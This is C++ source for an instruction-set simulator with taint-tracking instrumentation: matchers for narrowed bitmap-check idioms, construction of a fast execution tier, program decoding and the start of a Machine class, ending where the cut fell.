// the optimizer's post-deletion shapes (src/opt/instr_opt.cc,
// narrowAlignedAccesses): statIdx provenance plus field-exact
// structure, so only instrumentation matches, never user code.
// ------------------------------------------------------------------

/**
 * PR 3's narrowed byte-granularity check remnant. 5-instruction form
 * (hi-byte window deleted): ld1 t1,[t0]; and t2=R,7; shr t1,t2;
 * and t1,mask; cmp.ne pT=t1,0. 3-instruction form (shift provably 0):
 * ld1 t1,[t0]; and t1,mask; cmp.ne pT=t1,0. Both read one bitmap byte.
 */
size_t
matchNarrowedCheck(const std::vector<DecodedInstr> &c, size_t i,
                   size_t limit, unsigned &t0, unsigned &R, uint8_t &pT)
{
    const DecodedInstr &l0 = c[i];
    if (l0.op != Opcode::Ld || l0.qp != 0 || l0.size != 1 || l0.spec ||
        l0.fill)
        return 0;
    if (provOf(l0) != Provenance::TagMem)
        return 0;
    unsigned t1 = l0.r1;
    t0 = l0.r2;
    OrigClass cls = clsOf(l0);
    uint8_t sAddr =
        static_cast<uint8_t>(statIndex(Provenance::TagAddr, cls));
    uint8_t sReg =
        static_cast<uint8_t>(statIndex(Provenance::TagReg, cls));

    if (i + 5 <= limit) {
        const DecodedInstr &a1 = c[i + 1];
        const DecodedInstr &m4 = c[i + 4];
        if (a1.op == Opcode::And && a1.useImm && a1.imm == 7 &&
            a1.qp == 0 && a1.statIdx == sAddr) {
            unsigned t2 = a1.r1;
            R = a1.r2;
            const DecodedInstr &a3 = c[i + 3];
            if (distinct3(t0, t1, t2) && R != t0 && R != t1 && R != t2 &&
                R != reg::zero &&
                aluReg(c[i + 2], Opcode::Shr, t1, t1, t2) &&
                c[i + 2].statIdx == sAddr && a3.op == Opcode::And &&
                a3.useImm && a3.qp == 0 && a3.r1 == t1 && a3.r2 == t1 &&
                a3.statIdx == sAddr && m4.op == Opcode::Cmp &&
                m4.rel == CmpRel::Ne && m4.useImm && m4.imm == 0 &&
                m4.qp == 0 && m4.r2 == t1 && m4.p2 == 0 && m4.p1 != 0 &&
                m4.statIdx == sReg) {
                pT = m4.p1;
                return 5;
            }
        }
    }
    if (i + 3 <= limit) {
        const DecodedInstr &a1 = c[i + 1];
        const DecodedInstr &m2 = c[i + 2];
        if (a1.op == Opcode::And && a1.useImm && a1.qp == 0 &&
            a1.r1 == t1 && a1.r2 == t1 && a1.statIdx == sAddr &&
            t0 != t1 && t0 != reg::zero && t1 != reg::zero &&
            m2.op == Opcode::Cmp && m2.rel == CmpRel::Ne && m2.useImm &&
            m2.imm == 0 && m2.qp == 0 && m2.r2 == t1 && m2.p2 == 0 &&
            m2.p1 != 0 && m2.statIdx == sReg) {
            R = reg::zero;
            pT = m2.p1;
            return 3;
        }
    }
    return 0;
}

/**
 * PR 3's narrowed byte-granularity store-update remnant. 7-instruction
 * form (hi half deleted): and t2=R,7; movi t3=mask; shl t3,t2;
 * ld1 t1,[t0]; (pSet) or t1,t3; (pClr) andcm t1,t3; st1 [t0]=t1.
 * 5-instruction form (shift provably 0 deletes the and/shl too). Both
 * touch one bitmap byte. A canonical 13-group that merely failed to
 * fuse (interior branch target) starts identically; it is told apart
 * by its continuation (shr t3,t3,8) and left alone.
 */
size_t
matchNarrowedUpd(const std::vector<DecodedInstr> &c, size_t i,
                 size_t limit, unsigned &t0, unsigned &R, uint8_t &pSet)
{
    if (i >= limit)
        return 0;
    const DecodedInstr &m0 = c[i];
    if (provOf(m0) != Provenance::TagAddr || m0.qp != 0 || !m0.useImm)
        return 0;
    OrigClass cls = clsOf(m0);
    uint8_t sAddr = m0.statIdx;
    uint8_t sMem =
        static_cast<uint8_t>(statIndex(Provenance::TagMem, cls));
    uint8_t sReg =
        static_cast<uint8_t>(statIndex(Provenance::TagReg, cls));

    auto matchRmw = [&](size_t j, unsigned t3, unsigned &outT0,
                        uint8_t &outPSet) -> bool {
        // ld1 t1,[t0]; (pSet) or t1,t3; (pClr) andcm t1,t3; st1 [t0]=t1
        if (j + 4 > limit)
            return false;
        const DecodedInstr &ld = c[j];
        if (!(ld.op == Opcode::Ld && ld.qp == 0 && ld.size == 1 &&
              !ld.spec && !ld.fill && ld.statIdx == sMem))
            return false;
        unsigned t1 = ld.r1, a = ld.r2;
        if (!distinct3(t1, t3, a))
            return false;
        const DecodedInstr &o = c[j + 1];
        const DecodedInstr &an = c[j + 2];
        if (!(o.op == Opcode::Or && !o.useImm && o.r1 == t1 &&
              o.r2 == t1 && o.r3 == t3 && o.qp != 0 &&
              o.statIdx == sReg))
            return false;
        if (!(an.op == Opcode::Andcm && !an.useImm && an.r1 == t1 &&
              an.r2 == t1 && an.r3 == t3 && an.qp != 0 &&
              an.qp != o.qp && an.statIdx == sReg))
            return false;
        if (!tagSt1(c[j + 3], a, t1) || c[j + 3].statIdx != sMem)
            return false;
        outT0 = a;
        outPSet = o.qp;
        return true;
    };

    if (m0.op == Opcode::And && m0.imm == 7) {
        // 7-form; reject when it is really a canonical 13-group prefix.
        if (i + 7 > limit)
            return 0;
        unsigned t2 = m0.r1;
        R = m0.r2;
        const DecodedInstr &m1 = c[i + 1];
        if (!(m1.op == Opcode::Movi && m1.useImm && m1.qp == 0 &&
              m1.statIdx == sAddr))
            return 0;
        unsigned t3 = m1.r1;
        if (!aluReg(c[i + 2], Opcode::Shl, t3, t3, t2) ||
            c[i + 2].statIdx != sAddr || !distinct3(t2, t3, R))
            return 0;
        if (!matchRmw(i + 3, t3, t0, pSet))
            return 0;
        if (t0 == t2 || t0 == R)
            return 0;
        if (i + 7 < c.size() && aluImm(c[i + 7], Opcode::Shr, t3, t3, 8) &&
            c[i + 7].statIdx == sAddr)
            return 0; // canonical 13-group that failed to fuse
        return 7;
    }
    if (m0.op == Opcode::Movi) {
        // 5-form: the mask is pre-shifted, no address bits consumed.
        if (i + 5 > limit)
            return 0;
        unsigned t3 = m0.r1;
        if (t3 == reg::zero)
            return 0;
        if (!matchRmw(i + 1, t3, t0, pSet))
            return 0;
        R = reg::zero;
        return 5;
    }
    return 0;
}

/** Ops whose r1 is a pure destination (no read of the old value). */
bool
writesR1(const DecodedInstr &d)
{
    switch (d.op) {
      case Opcode::Add: case Opcode::Sub: case Opcode::Mul:
      case Opcode::Div: case Opcode::Mod: case Opcode::DivU:
      case Opcode::ModU: case Opcode::And: case Opcode::Andcm:
      case Opcode::Or: case Opcode::Xor: case Opcode::Shl:
      case Opcode::Shr: case Opcode::Sar: case Opcode::Sxt:
      case Opcode::Zxt: case Opcode::Extr: case Opcode::Shladd:
      case Opcode::Mov: case Opcode::Movi: case Opcode::Ld:
      case Opcode::MovFromBr: case Opcode::MovFromUnat:
        return true;
      default:
        return false;
    }
}

/**
 * Might the tag-address register `t0` be read in c[j, blockEnd)
 * before an unconditional redefinition? Decides whether a
 * FusedTagAddr can be elided together with its probed consumer: the
 * instrumenter's reuseTagAddr CSE (src/core/instrument.cc) can
 * forward one fold's t0 to later groups, but its cache dies at
 * labels, branches, calls, checks and syscalls — exactly the points
 * below — and never crosses a superblock leader, so this block-local
 * scan is exact for instrumenter output and conservative (via the
 * precomputed use masks) for anything hand-written.
 */
bool
tagAddrLiveAfter(const std::vector<DecodedInstr> &c, size_t j,
                 size_t blockEnd, unsigned t0)
{
    for (; j < blockEnd; ++j) {
        const DecodedInstr &d = c[j];
        switch (d.op) {
          case Opcode::FusedTagAddr:
            if (d.r2 == t0)
                return true;
            if (d.r1 == t0 || d.r3 == t0)
                return false;
            continue;
          case Opcode::FusedChkByte:
          case Opcode::FusedChkWord:
            if (d.br == t0 || d.r2 == t0)
                return true;
            if (d.r1 == t0 || d.r3 == t0)
                return false;
            continue;
          case Opcode::FusedStUpdByte:
          case Opcode::FusedStUpdWord:
            if (d.target == static_cast<int32_t>(t0) || d.r2 == t0)
                return true;
            if (d.r1 == t0 || d.r3 == t0 || d.br == t0)
                return false;
            continue;
          case Opcode::FusedClearNat:
            // Purges r1's NaT but keeps its value: a read-modify-write.
            if (d.r1 == t0 || d.r2 == t0)
                return true;
            if (d.r3 == t0)
                return false;
            continue;
          default:
            break;
        }
        // chk.s reads its operand's NaT but carries a zero stall mask.
        if (d.op == Opcode::Chk && d.r2 == t0)
            return true;
        if ((d.useMask >> (t0 & 63)) & 1)
            return true;
        if (d.op == Opcode::Br || d.op == Opcode::Chk ||
            d.op == Opcode::BrCall || d.op == Opcode::BrCalli ||
            d.op == Opcode::BrRet || d.op == Opcode::Syscall)
            return false; // reuseTagAddr cache reset point
        if (d.qp == 0 && writesR1(d) && d.r1 == t0)
            return false;
    }
    return false; // dead at the next leader (cache reset at its label)
}

/**
 * The load retaint glue: `(pT) add r = r, natSrc`, nullified whenever
 * the preceding bitmap check came up clean.
 */
bool
isRetaint(const DecodedInstr &d, uint8_t pT, unsigned r)
{
    return d.op == Opcode::Add && !d.useImm && d.qp == pT &&
           d.r1 == r && d.r2 == r && d.r3 == reg::natSrc &&
           provOf(d) == Provenance::TagReg;
}

/**
 * Build `df.fast`/`df.fastEntry` for one function and append its
 * superblocks to `prog.fastBlocks`. No-op (fast left empty) when the
 * function contains nothing elidable.
 */
void
buildFastStream(DecodedProgram &prog, size_t funcIdx)
{
    DecodedFunction &df = prog.functions[funcIdx];
    const std::vector<DecodedInstr> &c = df.code; // sentinel included
    const size_t n = c.size();
    if (n < 2)
        return;

    std::vector<uint8_t> leader(n, 0);
    leader[0] = 1;
    leader[n - 1] = 1; // the sentinel chains like any branch target
    for (const DecodedInstr &d : c) {
        if ((d.op == Opcode::Br || d.op == Opcode::Chk) && d.target >= 0)
            leader[static_cast<size_t>(d.target)] = 1;
    }

    std::vector<DecodedInstr> fast;
    fast.reserve(n + n / 4);
    std::vector<int32_t> fastEntry(n, -1);
    std::vector<FastBlockInfo> blocks;
    size_t probes = 0;

    std::vector<DecodedInstr> body; // one block's fast twin
    size_t i = 0;
    while (i < n) {
        size_t blockEnd = i + 1;
        while (blockEnd < n && !leader[blockEnd])
            ++blockEnd;
        fastEntry[i] = static_cast<int32_t>(fast.size());
        if (c[i].op == Opcode::Label) {
            // The fell-off-the-end sentinel needs no entry counting.
            fast.push_back(c[i]);
            i = blockEnd;
            continue;
        }
        int32_t blockId =
            static_cast<int32_t>(prog.fastBlocks.size() + blocks.size());
        body.clear();
        size_t blockProbes = 0;

        // A clean check probe leaves the load's retaint glue
        // permanently nullified; when the original load and its
        // retaint directly follow the probed window, copy the load
        // and drop the retaint from the fast twin (a deopt replays
        // the slow twin, which still carries it). Returns the resume
        // index.
        auto elideRetaint = [&](size_t k2, uint8_t pT) -> size_t {
            if (k2 + 1 < blockEnd && c[k2].op == Opcode::Ld &&
                c[k2].qp == 0 && isRetaint(c[k2 + 1], pT, c[k2].r1)) {
                body.push_back(c[k2]);
                return k2 + 2;
            }
            return k2;
        };

        // The store guard `tnat pSet, pClr = src` directly precedes
        // its update group (at most the shared tag-address fold in
        // between — pure ALU, reads no predicates). Fold it into the
        // store probe: the probe reads src's NaT from r3 and performs
        // the Tnat's predicate writes itself, so the deopt pc — which
        // sits after the Tnat — replays into exact predicate state.
        // pClr != 0 singles out the store guard; the relax/compare
        // Tnats write only one predicate.
        auto elideTnat = [&](DecodedInstr &q, uint8_t pSet,
                             uint8_t pClr) {
            size_t at = body.size();
            if (at && body[at - 1].op == Opcode::FusedTagAddr)
                --at;
            if (!at)
                return;
            const DecodedInstr &tn = body[at - 1];
            if (tn.op != Opcode::Tnat || tn.qp != 0 || pClr == 0 ||
                tn.p1 != pSet || tn.p2 != pClr)
                return;
            q.r3 = tn.r2; // the stored source register
            q.pos = pClr;
            q.p2 |= 2;
            body.erase(body.begin() + static_cast<ptrdiff_t>(at - 1));
        };

        for (size_t k = i; k < blockEnd;) {
            const DecodedInstr &d = c[k];
            DecodedInstr p;
            p.origIndex = d.origIndex;
            p.target = static_cast<int32_t>(k); // deopt pc
            p.callee = blockId;

            // A tag-address fold feeding exactly one probed group
            // whose t0 then dies is folded INTO the probe: the probe
            // recomputes figure 4 from the data address host-side
            // (p2 = 1) and a deopt replays from the fold's own pc, so
            // the clean path pays one dispatch for the whole
            // fold+check/update sequence.
            if (d.op == Opcode::FusedTagAddr && k + 1 < blockEnd) {
                const unsigned t0 = d.r1, R = d.r2;
                const DecodedInstr &g = c[k + 1];
                DecodedInstr q = p;
                q.r2 = d.r2; // R: the data address
                q.p2 = 1;    // data-address (fold-elided) mode
                size_t glen = 0;
                if ((g.op == Opcode::FusedChkByte ||
                     g.op == Opcode::FusedChkWord) &&
                    g.br == t0 && g.r2 == R &&
                    d.pos == (g.op == Opcode::FusedChkByte ? 3u : 6u)) {
                    q.op = Opcode::FpChkProbe;
                    q.p1 = g.p1;
                    q.size = g.op == Opcode::FusedChkByte ? 2 : 1;
                    glen = 1;
                } else if ((g.op == Opcode::FusedStUpdByte ||
                            g.op == Opcode::FusedStUpdWord) &&
                           g.target == static_cast<int32_t>(t0) &&
                           g.r2 == R &&
                           d.pos ==
                               (g.op == Opcode::FusedStUpdByte ? 3u
                                                               : 6u)) {
                    q.op = Opcode::FpStProbe;
                    q.p1 = g.p1;
                    q.size = g.op == Opcode::FusedStUpdByte ? 2 : 1;
                    glen = 1;
                } else if (d.pos == 3) {
                    // Narrowed byte-granularity remnants read one
                    // bitmap byte: byte fold, single-line probe
                    // (size 3). The 3/5-instruction forms don't name
                    // R; the t0 dataflow alone ties them to the fold.
                    unsigned nt0 = 0, nR = 0;
                    uint8_t pred = 0;
                    if (size_t len = matchNarrowedCheck(
                            c, k + 1, blockEnd, nt0, nR, pred)) {
                        if (nt0 == t0 && (nR == R || nR == reg::zero)) {
                            q.op = Opcode::FpChkProbe;
                            q.p1 = pred;
                            q.size = 3;
                            glen = len;
                        }
                    } else if (size_t len = matchNarrowedUpd(
                                   c, k + 1, blockEnd, nt0, nR, pred)) {
                        if (nt0 == t0 && (nR == R || nR == reg::zero)) {
                            q.op = Opcode::FpStProbe;
                            q.p1 = pred;
                            q.size = 3;
                            glen = len;
                        }
                    }
                }
                if (glen != 0 &&
                    !tagAddrLiveAfter(c, k + 1 + glen, blockEnd, t0)) {
                    if (q.op == Opcode::FpStProbe && q.size != 3)
                        elideTnat(q, g.p1, g.p2);
                    body.push_back(q);
                    ++blockProbes;
                    k = k + 1 + glen;
                    if (q.op == Opcode::FpChkProbe)
                        k = elideRetaint(k, q.p1);
                    continue;
                }
            }

            switch (d.op) {
              case Opcode::FusedChkByte:
              case Opcode::FusedChkWord:
                p.op = Opcode::FpChkProbe;
                p.br = d.br;                      // t0: tag address
                p.r2 = d.r2;                      // R: data address
                p.p1 = d.p1;                      // kPTag
                p.size = d.op == Opcode::FusedChkByte ? 2 : 1;
                body.push_back(p);
                ++blockProbes;
                k = elideRetaint(k + 1, p.p1);
                continue;
              case Opcode::FusedStUpdByte:
              case Opcode::FusedStUpdWord:
                p.op = Opcode::FpStProbe;
                p.br = static_cast<uint8_t>(d.target); // t0 (reg num)
                p.r2 = d.r2;                           // R
                p.p1 = d.p1;                           // pSet
                p.size = d.op == Opcode::FusedStUpdByte ? 2 : 1;
                elideTnat(p, d.p1, d.p2);
                body.push_back(p);
                ++blockProbes;
                ++k;
                continue;
              case Opcode::FusedClearNat:
                p.op = Opcode::FpClrProbe;
                p.r1 = d.r1; // the purged register
                p.r2 = d.r2; // spill base: a NaT base faults slow-side
                body.push_back(p);
                ++blockProbes;
                ++k;
                continue;
              default:
                break;
            }
            unsigned t0 = 0, R = 0;
            uint8_t pred = 0;
            if (size_t len =
                    matchNarrowedCheck(c, k, blockEnd, t0, R, pred)) {
                p.op = Opcode::FpChkProbe;
                p.br = static_cast<uint8_t>(t0);
                p.r2 = static_cast<uint16_t>(R);
                p.p1 = pred;
                p.size = 1; // narrowed groups read one bitmap byte
                body.push_back(p);
                ++blockProbes;
                k = elideRetaint(k + len, p.p1);
                continue;
            }
            if (size_t len =
                    matchNarrowedUpd(c, k, blockEnd, t0, R, pred)) {
                p.op = Opcode::FpStProbe;
                p.br = static_cast<uint8_t>(t0);
                p.r2 = static_cast<uint16_t>(R);
                p.p1 = pred;
                p.size = 1;
                body.push_back(p);
                ++blockProbes;
                k += len;
                continue;
            }
            body.push_back(d);
            ++k;
        }

        if (blockProbes == 0) {
            // Nothing in this twin can deopt, so FpEnter's hit
            // counting and cold-bail check would be pure dispatch
            // overhead: chain straight through a plain copy.
            fast.insert(fast.end(), body.begin(), body.end());
        } else {
            // When a probe leads the block AND its deopt pc replays
            // the whole block — the probed group starts at the block
            // entry, or only the probe's own elided Tnat precedes it —
            // the FpEnter merges into the probe (p2 bit 2): entry
            // counting and the cold bail ride on the probe's dispatch.
            DecodedInstr &h = body.front();
            bool merged =
                (h.op == Opcode::FpChkProbe ||
                 h.op == Opcode::FpStProbe ||
                 h.op == Opcode::FpClrProbe) &&
                (h.target == static_cast<int32_t>(i) ||
                 (h.target == static_cast<int32_t>(i) + 1 &&
                  (h.p2 & 2)));
            if (merged) {
                h.p2 |= 4;
            } else {
                DecodedInstr enter;
                enter.op = Opcode::FpEnter;
                enter.callee = blockId;
                enter.target = static_cast<int32_t>(i); // slow entry
                enter.origIndex = c[i].origIndex;
                fast.push_back(enter);
            }
            fast.insert(fast.end(), body.begin(), body.end());
            blocks.push_back({static_cast<int32_t>(funcIdx),
                              static_cast<int32_t>(i)});
            probes += blockProbes;
        }
        i = blockEnd;
    }

    if (probes == 0)
        return; // a probe-free fast tier is pure dispatch overhead

    // Chain fast-stream control flow onto the fast stream itself.
    // Every Br/Chk target is a leader, so the lookup always hits.
    for (DecodedInstr &d : fast) {
        if ((d.op == Opcode::Br || d.op == Opcode::Chk) && d.target >= 0)
            d.target = fastEntry[static_cast<size_t>(d.target)];
    }

    df.fast = std::move(fast);
    df.fastEntry = std::move(fastEntry);
    prog.fastBlocks.insert(prog.fastBlocks.end(), blocks.begin(),
                           blocks.end());
}

} // namespace

bool
decodeProgram(const Program &program, DecodedProgram &out, Fault &error,
              bool fuse)
{
    out.functions.clear();
    out.functions.resize(program.functions.size());
    out.builtinNames.clear();
    out.fastBlocks.clear();

    // Name tables built once; emplace keeps the first definition, the
    // same one Program::findFunction's linear scan returns.
    std::unordered_map<std::string, int32_t> funcOf;
    for (size_t f = 0; f < program.functions.size(); ++f)
        funcOf.emplace(program.functions[f].name,
                       static_cast<int32_t>(f));
    std::unordered_map<std::string, int32_t> slotOf;

    for (size_t f = 0; f < program.functions.size(); ++f) {
        const Function &fn = program.functions[f];
        DecodedFunction &df = out.functions[f];
        df.src = &fn;
        df.origCount = static_cast<uint32_t>(fn.code.size());

        // Pass 1: label positions, and for every original index the
        // dense index of the first non-label instruction at/after it
        // (so a branch to a label lands where the legacy stepper does
        // after walking the zero-cost markers).
        std::vector<int32_t> labelPos(
            fn.nextLabel > 0 ? static_cast<size_t>(fn.nextLabel) : 0, -1);
        std::vector<int32_t> denseAt(fn.code.size() + 1, 0);
        int32_t dense = 0;
        for (size_t i = 0; i < fn.code.size(); ++i) {
            denseAt[i] = dense;
            const Instr &instr = fn.code[i];
            if (instr.op == Opcode::Label) {
                if (instr.imm >= 0) {
                    if (static_cast<size_t>(instr.imm) >= labelPos.size())
                        labelPos.resize(
                            static_cast<size_t>(instr.imm) + 1, -1);
                    labelPos[static_cast<size_t>(instr.imm)] =
                        static_cast<int32_t>(i);
                }
            } else {
                ++dense;
            }
        }
        denseAt[fn.code.size()] = dense;

        // Pass 2: copy, strip labels, link targets and callees.
        df.code.reserve(static_cast<size_t>(dense) + 1);
        for (size_t i = 0; i < fn.code.size(); ++i) {
            const Instr &instr = fn.code[i];
            if (instr.op == Opcode::Label)
                continue;
            DecodedInstr d;
            d.useMask = stallUseMask(instr);
            d.imm = instr.imm;
            d.origIndex = static_cast<int32_t>(i);
            d.r1 = instr.r1;
            d.r2 = instr.r2;
            d.r3 = instr.r3;
            d.op = instr.op;
            d.qp = instr.qp;
            d.p1 = instr.p1;
            d.p2 = instr.p2;
            d.br = instr.br;
            d.rel = instr.rel;
            d.size = instr.size;
            d.pos = instr.pos;
            d.len = instr.len;
            d.statIdx = static_cast<uint8_t>(
                statIndex(instr.prov, instr.origClass));
            d.useImm = instr.useImm;
            d.spec = instr.spec;
            d.fill = instr.fill;
            d.spill = instr.spill;

            if (instr.op == Opcode::Br || instr.op == Opcode::Chk) {
                int32_t pos = -1;
                if (instr.imm >= 0 &&
                    static_cast<size_t>(instr.imm) < labelPos.size())
                    pos = labelPos[static_cast<size_t>(instr.imm)];
                if (pos < 0) {
                    error = badProgram(fn, static_cast<int>(f), i,
                                       instr.imm);
                    return false;
                }
                d.target = denseAt[pos];
            } else if (instr.op == Opcode::BrCall) {
                auto fit = funcOf.find(instr.callee);
                if (fit != funcOf.end()) {
                    d.callee = fit->second;
                } else {
                    auto [sit, inserted] = slotOf.emplace(
                        instr.callee,
                        static_cast<int32_t>(out.builtinNames.size()));
                    if (inserted)
                        out.builtinNames.push_back(instr.callee);
                    d.callee = -1 - sit->second;
                }
            }
            df.code.push_back(d);
        }

        // Pass 3: collapse instrumentation idioms into macro micro-ops.
        if (fuse)
            fuseFunction(df);

        // End-of-function sentinel: falling (or branching) past the
        // last instruction lands here instead of needing a bounds
        // check on every fetch. Label never survives decode, so the
        // interpreter reuses its dispatch slot as the fell-off-the-end
        // handler. The sentinel never nullifies (qp 0), never stalls
        // (empty use mask) and reports the architectural end pc.
        DecodedInstr sentinel;
        sentinel.op = Opcode::Label;
        sentinel.origIndex = static_cast<int32_t>(fn.code.size());
        df.code.push_back(sentinel);

        // Pass 4: the dual-version fast tier. Tied to `fuse` for the
        // same reason fusion is: trace hooks need the one-to-one
        // stream, and the probes guard idioms the fused stream names.
        if (fuse)
            buildFastStream(out, f);
    }
    return true;
}

bool
hasFusedOps(const DecodedProgram &program)
{
    for (const DecodedFunction &df : program.functions) {
        for (const DecodedInstr &d : df.code) {
            if (static_cast<size_t>(d.op) >= kFirstFusedOpcode)
                return true;
        }
    }
    return false;
}

} // namespace shift
