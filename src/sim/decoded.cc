#include "sim/decoded.hh"

#include <unordered_map>

namespace shift
{

namespace
{

/**
 * Precomputed operand set for the load-use stall check. chk.s only
 * inspects the NaT bit, which is available early, so it never stalls
 * (mask 0 folds the legacy stepper's opcode test into the mask).
 */
uint64_t
stallUseMask(const Instr &instr)
{
    if (instr.op == Opcode::Chk)
        return 0;
    return regUseMask(instr);
}

Fault
badProgram(const Function &fn, int funcIndex, size_t origIndex,
           int64_t label)
{
    Fault fault;
    fault.kind = FaultKind::BadProgram;
    fault.context = FaultContext::ControlFlow;
    fault.function = funcIndex;
    fault.pc = origIndex;
    fault.detail = "branch to unresolved label L" + std::to_string(label) +
                   " in function '" + fn.name + "'";
    return fault;
}

} // namespace

bool
decodeProgram(const Program &program, DecodedProgram &out, Fault &error)
{
    out.functions.clear();
    out.functions.resize(program.functions.size());
    out.builtinNames.clear();

    // Name tables built once; emplace keeps the first definition, the
    // same one Program::findFunction's linear scan returns.
    std::unordered_map<std::string, int32_t> funcOf;
    for (size_t f = 0; f < program.functions.size(); ++f)
        funcOf.emplace(program.functions[f].name,
                       static_cast<int32_t>(f));
    std::unordered_map<std::string, int32_t> slotOf;

    for (size_t f = 0; f < program.functions.size(); ++f) {
        const Function &fn = program.functions[f];
        DecodedFunction &df = out.functions[f];
        df.src = &fn;
        df.origCount = static_cast<uint32_t>(fn.code.size());

        // Pass 1: label positions, and for every original index the
        // dense index of the first non-label instruction at/after it
        // (so a branch to a label lands where the legacy stepper does
        // after walking the zero-cost markers).
        std::vector<int32_t> labelPos(
            fn.nextLabel > 0 ? static_cast<size_t>(fn.nextLabel) : 0, -1);
        std::vector<int32_t> denseAt(fn.code.size() + 1, 0);
        int32_t dense = 0;
        for (size_t i = 0; i < fn.code.size(); ++i) {
            denseAt[i] = dense;
            const Instr &instr = fn.code[i];
            if (instr.op == Opcode::Label) {
                if (instr.imm >= 0) {
                    if (static_cast<size_t>(instr.imm) >= labelPos.size())
                        labelPos.resize(
                            static_cast<size_t>(instr.imm) + 1, -1);
                    labelPos[static_cast<size_t>(instr.imm)] =
                        static_cast<int32_t>(i);
                }
            } else {
                ++dense;
            }
        }
        denseAt[fn.code.size()] = dense;

        // Pass 2: copy, strip labels, link targets and callees.
        df.code.reserve(static_cast<size_t>(dense) + 1);
        for (size_t i = 0; i < fn.code.size(); ++i) {
            const Instr &instr = fn.code[i];
            if (instr.op == Opcode::Label)
                continue;
            DecodedInstr d;
            d.useMask = stallUseMask(instr);
            d.imm = instr.imm;
            d.origIndex = static_cast<int32_t>(i);
            d.r1 = instr.r1;
            d.r2 = instr.r2;
            d.r3 = instr.r3;
            d.op = instr.op;
            d.qp = instr.qp;
            d.p1 = instr.p1;
            d.p2 = instr.p2;
            d.br = instr.br;
            d.rel = instr.rel;
            d.size = instr.size;
            d.pos = instr.pos;
            d.len = instr.len;
            d.statIdx = static_cast<uint8_t>(
                statIndex(instr.prov, instr.origClass));
            d.useImm = instr.useImm;
            d.spec = instr.spec;
            d.fill = instr.fill;
            d.spill = instr.spill;

            if (instr.op == Opcode::Br || instr.op == Opcode::Chk) {
                int32_t pos = -1;
                if (instr.imm >= 0 &&
                    static_cast<size_t>(instr.imm) < labelPos.size())
                    pos = labelPos[static_cast<size_t>(instr.imm)];
                if (pos < 0) {
                    error = badProgram(fn, static_cast<int>(f), i,
                                       instr.imm);
                    return false;
                }
                d.target = denseAt[pos];
            } else if (instr.op == Opcode::BrCall) {
                auto fit = funcOf.find(instr.callee);
                if (fit != funcOf.end()) {
                    d.callee = fit->second;
                } else {
                    auto [sit, inserted] = slotOf.emplace(
                        instr.callee,
                        static_cast<int32_t>(out.builtinNames.size()));
                    if (inserted)
                        out.builtinNames.push_back(instr.callee);
                    d.callee = -1 - sit->second;
                }
            }
            df.code.push_back(d);
        }

        // End-of-function sentinel: falling (or branching) past the
        // last instruction lands here instead of needing a bounds
        // check on every fetch. Label never survives decode, so the
        // interpreter reuses its dispatch slot as the fell-off-the-end
        // handler. The sentinel never nullifies (qp 0), never stalls
        // (empty use mask) and reports the architectural end pc.
        DecodedInstr sentinel;
        sentinel.op = Opcode::Label;
        sentinel.origIndex = static_cast<int32_t>(fn.code.size());
        df.code.push_back(sentinel);
    }
    return true;
}

} // namespace shift
