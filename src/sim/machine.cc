#include "machine.hh"

#include <algorithm>
#include <bit>

#include "dift/annotate.hh"
#include "dift/tier.hh"
#include "support/bitops.hh"
#include "support/logging.hh"

// Direct-threaded dispatch (computed goto) for the predecoded engine
// where the compiler supports it; define SHIFT_PORTABLE_DISPATCH to
// force the portable switch loop (both modes share one copy of the
// handler bodies — see runDecoded).
#if defined(__GNUC__) && !defined(SHIFT_PORTABLE_DISPATCH)
#define SHIFT_THREADED_DISPATCH 1
#else
#define SHIFT_THREADED_DISPATCH 0
#endif

namespace shift
{

namespace
{

/** Stack region layout. */
constexpr uint64_t kStackBase = regionBase(kStackRegion) + 0x10000;
constexpr uint64_t kStackSize = 4ULL << 20;
constexpr uint64_t kHeapGap = 1ULL << 20;
constexpr uint64_t kHeapMax = 1ULL << 32;
// Cold-block demotion (kFpColdDeopts) and the call-depth limit
// (kMaxCallDepth) live in machine.hh now: the JIT runtime helpers
// replicate the same policies and must agree.

} // namespace

Machine::Machine(const Program &program, CpuFeatures features,
                 ExecEngine engine)
    : program_(&program), features_(features), engine_(engine)
{
    layout();
    if (engine_ == ExecEngine::Predecoded) {
        auto decoded = std::make_shared<DecodedProgram>();
        Fault decodeError;
        if (!decodeProgram(*program_, *decoded, decodeError)) {
            // Malformed code is a construction-time diagnostic: the
            // machine starts stopped and run() reports the fault.
            fault_ = decodeError;
            stopped_ = true;
        }
        decoded_ = std::move(decoded);
        builtinSlotFns_.assign(decoded_->builtinNames.size(), nullptr);
        fpEnters_.assign(decoded_->fastBlocks.size(), 0);
        fpDeopts_.assign(decoded_->fastBlocks.size(), 0);
        fpCold_.assign(decoded_->fastBlocks.size(), 0);
    } else {
        resolveLabels();
        // The legacy stepper is the pre-change reference: it keeps
        // paying the hash-map page translation on every access, so
        // bench_interp's baseline stays honest and the equivalence
        // suite exercises both translation paths.
        mem_.setTranslationCacheEnabled(false);
    }
    reset();
}

Machine::Machine(const Program &program, const MachineSnapshot &snap,
                 CpuFeatures features, ExecEngine engine)
    : program_(&program), features_(features), engine_(engine)
{
    mem_.restore(snap.mem);
    for (int r = 0; r < kNumGpr; ++r)
        gpr_[r] = Gpr{snap.gprVal[r], snap.gprNat[r]};
    for (int p = 0; p < kNumPred; ++p)
        pred_[p] = snap.pred[p];
    for (int b = 0; b < kNumBr; ++b)
        br_[b] = snap.br[b];
    unat_ = snap.unat;
    curFunc_ = snap.curFunc;
    pc_ = snap.pc;
    globalAddr_ = snap.globalAddr;
    heapBreak_ = snap.heapBreak;
    heapLimit_ = snap.heapLimit;

    if (engine_ == ExecEngine::Predecoded) {
        SHIFT_ASSERT(snap.decoded,
                     "snapshot carries no decode result (taken from a "
                     "legacy-engine machine?)");
        decoded_ = snap.decoded;
        builtinSlotFns_.assign(decoded_->builtinNames.size(), nullptr);
        fpEnters_.assign(decoded_->fastBlocks.size(), 0);
        fpDeopts_.assign(decoded_->fastBlocks.size(), 0);
        fpCold_.assign(decoded_->fastBlocks.size(), 0);
        if (snap.jitCache) {
            jitCache_ = snap.jitCache;
            jitEnabled_ = true;
            jitThreshold_ = jitCache_->threshold();
        }
    } else {
        resolveLabels();
        mem_.setTranslationCacheEnabled(false);
    }
}

MachineSnapshot
Machine::capture() const
{
    SHIFT_ASSERT(!ran_ && !stopped_ && callStack_.empty(),
                 "Machine::capture() requires a built, not-yet-run machine");
    MachineSnapshot snap;
    snap.mem = mem_.snapshot();
    for (int r = 0; r < kNumGpr; ++r) {
        snap.gprVal[r] = gpr_[r].val;
